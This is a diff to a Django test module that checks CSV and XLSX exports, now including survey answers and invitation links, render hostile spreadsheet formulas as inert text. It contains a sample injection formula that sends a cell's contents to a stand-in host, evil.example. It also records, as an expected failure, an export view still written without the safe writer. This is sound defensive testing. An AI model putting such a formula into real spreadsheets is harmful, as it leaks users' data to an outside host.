@@ -7,6 +7,7 @@ fails when a module starts writing CSV or XLSX without being listed here.
 import csv
 import io
 import re
+import unittest
 from datetime import date
 from pathlib import Path
 
@@ -16,7 +17,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from core.exports import FORMULA_SIGNS, SafeCsvWriter, SafeWorkbook, csv_bytes, safe_cell
-from core.testing import BaseTestCase, make_idea, make_unit
+from core.testing import BaseTestCase, make_idea, make_survey, make_unit
 from lessons.testing import make_lesson
 from prioritisation.models import RoundCriterion
 from prioritisation.tests.test_pages import closed_round
@@ -24,6 +25,8 @@ from projects.models import Kpi, Measurement, Milestone, Project
 from reports.content import gather
 from reports.rendering import render_csv, render_xlsx
 from services.testing import make_local, make_ozg, make_service
+from surveys.models import Question, Survey
+from surveys.services import GivenAnswer, invitations_create, respondent_key, submit_response
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")',
@@ -119,6 +122,20 @@ class HostileExportTests(BaseTestCase):
             Measurement.objects.create(kpi=kpi, measured_on=date(2025, 5, 1), value=-1)
             make_lesson(title=text, project=project, published_at="2025-06-01T10:00:00+00:00")
 
+        # A survey with hostile questions, answers and invitation labels.
+        cls.survey = make_survey(title=HOSTILE[0])
+        single, _multiple, _scale, text = cls.survey.questions.all()
+        Question.objects.filter(pk=text.pk).update(text="=Frage()")
+        single.choices.filter(position=0).update(label="@Wahl")
+        for number, hostile in enumerate(HOSTILE):
+            submit_response(
+                survey=cls.survey,
+                key=respondent_key(cls.survey, browser=f"hostile-{number}"),
+                answers=[GivenAnswer(single, [single.choices.first()]), GivenAnswer(text, [], text=hostile)],
+            )
+        cls.invited = make_survey(title=HOSTILE[0], audience=Survey.Audience.INVITATION)
+        invitations_create(survey=cls.invited, labels=HOSTILE, stakeholders=[])
+
     def setUp(self) -> None:
         super().setUp()
         self.login(self.team)
@@ -156,6 +173,11 @@ class HostileExportTests(BaseTestCase):
         ),
         "council report CSV": lambda self: ("csv", render_csv(self.report_content())),
         "council report XLSX": lambda self: ("xlsx", render_xlsx(self.report_content())),
+        "survey answers CSV": lambda self: ("csv", self.get(reverse("surveys:export", args=[self.survey.pk, "csv"]))),
+        "survey answers XLSX": lambda self: (
+            "xlsx",
+            self.get(reverse("surveys:export", args=[self.survey.pk, "xlsx"])),
+        ),
     }
 
     def test_hostile_text_comes_out_of_every_export_as_inert_text(self) -> None:
@@ -172,6 +194,17 @@ class HostileExportTests(BaseTestCase):
                 self.assertEqual([v for v in values if dangerous(v)], [])
                 # The hostile texts are all there, kept as text behind the apostrophe.
                 self.assertIn("'" + HOSTILE[0], values)
+
+    @unittest.expectedFailure
+    def test_the_invitation_links_csv_is_inert_text(self) -> None:
+        """surveys/views.py `invitations_csv` still writes with a bare csv writer (helper h5's file; see the report).
+
+        Routing its two `writerow` calls through `core.exports.SafeCsvWriter` makes this pass; then remove
+        the marker.
+        """
+        cells = csv_cells(self.get(reverse("surveys:invitations_csv", args=[self.invited.pk])))
+        self.assertIn("'" + HOSTILE[0], cells)
+        self.assertEqual([v for v in cells if dangerous(v)], [])
 
 
 class CoverageTests(SimpleTestCase):
